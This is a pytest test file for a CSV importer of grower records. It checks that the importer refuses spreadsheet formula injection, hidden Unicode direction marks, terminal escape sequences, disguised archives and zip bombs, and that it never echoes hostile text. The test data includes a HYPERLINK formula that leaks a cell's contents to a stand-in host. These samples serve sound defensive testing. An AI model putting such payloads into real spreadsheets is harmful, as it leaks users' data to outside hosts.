"""Lists made to do harm, or damaged on their way: nothing of them is kept, and the reason holds nothing of them.

What is a formula to a spreadsheet: OWASP, "CSV Injection". Marks of direction: Unicode Standard Annex 9.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import zipfile
import zlib

import pytest

from advisor.service.tables import BrokenTable
from advisor.store.memory import DictStore
from tests.service.importing import ANN, BEN, HEAD, SOUND, brought, facts_of, line, of, reason

TEXT_COLUMNS = ["number", "language", "village", "agent", "field_unit", "seed_origin", "consent_how"]


def quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"'


def zipped(name: str = "growers.csv", text: str = SOUND) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        if name:
            archive.writestr(name, text)
    return raw.getvalue()


class TestFormulas:
    @pytest.mark.parametrize("column", TEXT_COLUMNS)
    @pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", "'=", '"='])
    def test_a_cell_that_is_one_is_refused_and_not_repeated(self, column: str, begins: str) -> None:
        hostile = f'{begins}HYPERLINK("http://x.test/"&A1)'

        checked = of((HEAD + line(**{column: quoted(hostile)}) + line(BEN)).encode())

        assert [row.number for row in checked.rows] == [BEN]
        first = checked.remarks[0]
        assert (first.column, first.outcome) == (column, "refused")
        assert not [
            remark for remark in checked.remarks if "HYPERLINK" in remark.reason or "x.test" in remark.reason
        ]

    @pytest.mark.parametrize("around", ["\tDovi", " Dovi\t", "\u00a0Dovi"])
    def test_blanks_and_tabs_around_a_name_are_none(self, around: str) -> None:
        assert len(of((HEAD + line(village=quoted(around))).encode()).rows) == 1


class TestMarksThatCannotBeSeen:
    @pytest.mark.parametrize("mark", list("\u200e\u200f\u202a\u202b\u202d\u202e\u2066\u2069"))
    def test_of_direction_around_a_number_or_a_name_are_taken_off(self, mark: str) -> None:
        (row,) = of((HEAD + line(f"{mark}{ANN}{mark}", village=f"{mark}Dovi\u202c")).encode()).rows

        assert (row.number, [fact.value for fact in row.facts]) == (ANN, ["v1"])

    @pytest.mark.parametrize("mark", ["\u202e", "\u2067", "\u200b"])
    def test_within_a_number_are_refused(self, mark: str) -> None:
        checked = of((HEAD + line(f"{ANN[:5]}{mark}{ANN[5:]}")).encode())

        assert checked.rows == ()
        assert [(remark.column, remark.outcome) for remark in checked.remarks] == [("number", "refused")]

    def test_in_the_name_of_a_column_are_no_column(self) -> None:
        told = reason(SOUND.replace("village", "\u202evillage", 1).encode())

        assert told.startswith("line 1: column 3: not in the schema")
        assert "\u202e" not in told

    def test_the_mark_of_utf_8_within_files_put_behind_each_other_is_taken_off(self) -> None:
        """As where two lists were joined."""
        assert [row.number for row in of((SOUND + "\ufeff" + line("0001000003")).encode()).rows][
            2
        ] == "+999001000003"

    @pytest.mark.parametrize("sign", ["\x07", "\x1b[2J", "\x85", "\u2028", "\x7f"])
    def test_signs_that_steer_a_terminal_are_refused(self, sign: str) -> None:
        (remark,) = of((HEAD + line(village=quoted(f"Do{sign}vi"))).encode()).remarks

        assert (remark.column, remark.outcome) == ("village", "refused")
        assert sign not in remark.reason


class TestOtherSigns:
    @pytest.mark.parametrize("text", ["🌱", "Dovi🌱🌱", "👩🏾‍🌾", "\U000e0001", "ｄｏｖｉ\u0301"])
    @pytest.mark.parametrize("column", TEXT_COLUMNS)
    def test_emoji_are_no_value_of_any_column(self, column: str, text: str) -> None:
        checked = of((HEAD + line(**{column: text})).encode())

        told = [(remark.column, remark.outcome) for remark in checked.remarks]
        # what only decorates a name is no part of it
        assert told[:1] == [(column, "refused")] or (column, told) == ("village", [])
        assert not [remark for remark in checked.remarks if text in remark.reason]

    @pytest.mark.parametrize("digits", ["०००१०००००१", "٠٠٠١٠٠٠٠٠١", "０００１００００01"])
    def test_digits_of_other_scripts_are_no_number(self, digits: str) -> None:
        assert of((HEAD + line(digits)).encode()).rows == ()


class TestFilesOfAnotherKind:
    @pytest.mark.parametrize(
        "raw",
        [
            zipped(),
            zipped("xl/worksheets/sheet1.xml", "<worksheet/>"),
            zipped(""),
            gzip.compress(SOUND.encode()),
            bz2.compress(SOUND.encode()),
            lzma.compress(SOUND.encode()),
            zlib.compress(SOUND.encode()),
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
            b"<html><body><table><tr><td>number</td></tr></table></body></html>",
            b"SQLite format 3\x00" + bytes(99),
            b'[{"number": "+999001000001", "consent_how": "paper"}]',
        ],
        ids=["zip", "workbook", "empty zip", "gzip", "bzip2", "xz", "zlib", "pdf", "html", "database", "json"],
    )
    def test_under_the_name_of_a_list_is_refused_whole_in_words(self, raw: bytes) -> None:
        told = reason(raw)

        assert told.isprintable()
        assert len(told) < 400

    def test_a_list_within_an_archive_is_not_unpacked_however_small_it_looks(self) -> None:
        packed = zipped(text=SOUND + "0" * 50_000_000)

        assert len(packed) < 100_000
        assert "workbook or an archive" in reason(packed)


class TestStructure:
    def test_a_line_of_ten_thousand_cells_is_refused_alone(self) -> None:
        checked = of((SOUND + "x," * 9_999 + "\n").encode())

        assert len(checked.rows) == 2
        assert [(remark.line, remark.outcome) for remark in checked.remarks] == [(4, "refused")]
        assert "10000 cells" in checked.remarks[0].reason

    @pytest.mark.parametrize("again", ["number", " Number ", "NUMBER", '"number"'])
    def test_a_column_that_is_there_twice_is_refused_however_it_is_written(self, again: str) -> None:
        assert "the column number is there twice" in reason(f"number,{again},consent_how,consent_on\n".encode())

    def test_is_named_with_all_that_is_wrong_with_it(self) -> None:
        told = reason(b"number,number,age,village,village\n")

        for fault in ("column 3: not in the schema", "number is there twice", "village is there twice"):
            assert fault in told
        assert "missing consent_how, consent_on" in told

    def test_ends_of_lines_may_be_mixed_and_the_last_one_missing(self) -> None:
        raw = (HEAD + line().replace("\n", "\r\n") + line(BEN).rstrip("\n")).encode()

        assert [row.number for row in of(raw).rows] == [ANN, BEN]

    def test_a_line_of_fifty_megabytes_after_sound_ones_refuses_all_of_them(self) -> None:
        assert "line 4 is longer than 64 KiB" in reason(SOUND.encode() + b"9" * 50_000_000)

    @pytest.mark.parametrize("ending", ['"0001000003', "0001\x00", '"a"b'])
    def test_of_a_file_that_breaks_off_nothing_is_taken_in(self, ending: str) -> None:
        store = DictStore()

        with pytest.raises(BrokenTable):
            brought(store, line(village="Dovi"), ending)

        assert list(store.growers()) == []

    def test_what_is_sound_among_hostile_lines_comes_in_and_nothing_else(self) -> None:
        store = DictStore()

        done = brought(store, line("=1+1"), line(village="Dovi"), line(BEN, village="@SUM(1)"), "a,b\n")

        assert (done.new, facts_of(store)) == (1, {"grower.village": "v1"})
